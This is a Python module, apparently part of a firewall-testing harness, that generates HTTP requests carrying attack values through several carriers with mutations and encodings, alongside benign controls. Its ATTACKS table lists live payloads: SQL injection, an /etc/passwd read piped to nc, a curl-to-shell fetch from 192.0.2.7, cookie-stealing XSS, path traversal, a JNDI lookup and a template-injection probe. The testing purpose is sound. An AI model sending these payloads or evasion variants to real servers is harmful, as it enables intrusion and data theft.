"""Whole requests that carry an attack's value to an application in every form that a framework may read: carrier x
mutations of its syntax x encoding of the value. The engine tells which of them arrive.
"""

import base64

from ground.case import Case

from .carriers import coding, form, head, json_text, multipart, xml_text

# A few values that are blocked in clear in every place. What is measured is the carrier.
ATTACKS = {
    "sqli": ["1' UNION SELECT login,password FROM users-- -", "x' OR 1=1; DROP TABLE users; --"],
    "rce": ["; cat /etc/passwd | nc 192.0.2.7 4444", "$(curl http://192.0.2.7/x|sh)"],
    "xss": ["<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(document.domain)>"],
    "ptrav": ["../../../../../../etc/passwd"],
    "rce, by expression": ["${jndi:ldap://192.0.2.7/a}", "{{''.__class__.__mro__[1].__subclasses__()}}"],
}
HARMLESS = ["O'Brien & Sons", "price < 20 and > 10", "see notes; then call", "a/b/c.txt", "50% off, \"today\"", "Tom {junior}", "café №5", "-- signed, Ann", "SELECT your size", "1.5e3 + 2"]
# What makes a text look like a file, before or behind the value.
PADDINGS = [("lorem ipsum dolor sit amet " * 45, ""), ("<!DOCTYPE html>\n", ""), ("#!/x\n", "\n"), ("", "\nlorem\nipsum\ndolor\nsit\n" * 60)]
CARRIERS = {"multipart": multipart.carry, "form": form.carry, "JSON": json_text.carry, "XML": xml_text.carry,
            "query": head.query, "cookie": head.cookie, "path": head.path}
PADDED = ("multipart", "form", "JSON", "XML")
WEIGHTS = [8, 4, 4, 3, 2, 2, 1]


def request(r, carrier, value, mutations):
    """The request, what was done to the syntax, and how the value is written."""
    made = CARRIERS[carrier](r, value, mutations)
    techniques, encodings = list(made.techniques), list(made.encodings)
    headers, body = list(made.headers), made.body
    if body and mutations and r.random() < 0.15:
        headers, body, technique = coding.encode(r, headers, body)
        techniques.append(technique)
    lines = [made.method.encode() + b" " + made.target + b" HTTP/1.1", b"Host: shop.test",
             b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", *(name.encode() + b": " + text for name, text in headers)]
    if body:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join([*lines, b"Connection: close", b"", body]), techniques, encodings


def case(r, carrier, attack, value, benign=False, mutations=None):
    """One case: with one to three mutations, and each tenth without any."""
    before, behind = r.choice(PADDINGS) if r.random() < 0.3 and carrier in PADDED else ("", "")
    mutations = mutations if mutations is not None else 0 if r.random() < 0.1 else r.choice([1, 1, 2, 3])
    raw, techniques, encodings = request(r, carrier, before + value + behind, mutations)
    encodings += ["padded"] if before or behind else []
    return Case(attack, "servers", carrier, "+".join(sorted(set(techniques))) or "plain", "+".join(encodings) or "clear", value, benign,
                extra=(("before", before), ("behind", behind), ("request", base64.b64encode(raw).decode())))


def attacks(r, _target, count):
    classes = list(ATTACKS)
    for _ in range(count):
        attack = r.choice(classes)
        yield case(r, r.choices(list(CARRIERS), WEIGHTS)[0], attack.split(",")[0], r.choice(ATTACKS[attack]))


def benign(r, _target, count):
    for _ in range(count):
        yield case(r, r.choices(list(CARRIERS), WEIGHTS)[0], "none", r.choice(HARMLESS), benign=True)
